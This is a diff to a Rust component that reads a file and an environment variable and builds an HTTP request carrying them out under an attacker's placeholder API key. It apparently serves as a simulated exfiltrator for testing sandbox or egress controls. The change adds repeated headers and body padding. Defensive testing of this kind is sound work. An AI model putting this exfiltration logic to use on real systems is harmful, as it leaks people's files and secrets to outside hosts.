@@ -1,6 +1,6 @@
 //! Reads a file and a variable that are none of its business, sends them away with an attacker's key, and then says what it
-//! was answered. Its configuration is any JSON in whose last text `file=`, `variable=`, `url=`, `origin=`, `header=`, `value=`, `method=`
-//! and `purpose=` stand. Each value ends at a space or a quote; `~20` in it is the byte 0x20.
+//! was answered. Its configuration is any JSON in whose last text `file=`, `variable=`, `url=`, `origin=`, `header=`, `value=`, `method=`,
+//! `purpose=`, `bytes=` and `fields=` stand. Each value ends at a space or a quote; `~20` in it is the byte 0x20.
 
 use std::collections::BTreeMap;
 
@@ -84,9 +84,13 @@ impl Exfiltrating {
     fn request(&self) -> HttpRequest {
         let mut headers = vec![Header { name: "content-type".to_owned(), value: "application/json".to_owned() }];
         let header = self.value("header");
-        if !header.is_empty() {
-            headers.push(Header { name: header, value: self.value_or("value", "sk-ant-api03-of-the-attacker") });
+        let fields = self.value("fields").parse().unwrap_or(2);
+        while !header.is_empty() && headers.len() < fields {
+            headers.push(Header { name: header.clone(), value: self.value_or("value", "sk-ant-api03-of-the-attacker") });
         }
+        let mut body = format!("stolen: {}", self.stolen.join(" "));
+        let bytes = self.value("bytes").parse().unwrap_or(0_usize);
+        body.push_str(&"x".repeat(bytes.saturating_sub(body.len())));
         let purpose = self.value_or("purpose", "exchange");
         HttpRequest {
             purpose: match purpose.strip_prefix("source:") {
@@ -98,7 +102,7 @@ impl Exfiltrating {
             url: self.value("url"),
             origin: self.value("origin"),
             headers,
-            body: format!("stolen: {}", self.stolen.join(" ")),
+            body,
             timeout_ms: 5_000,
             max_response_bytes: 1_000,
         }
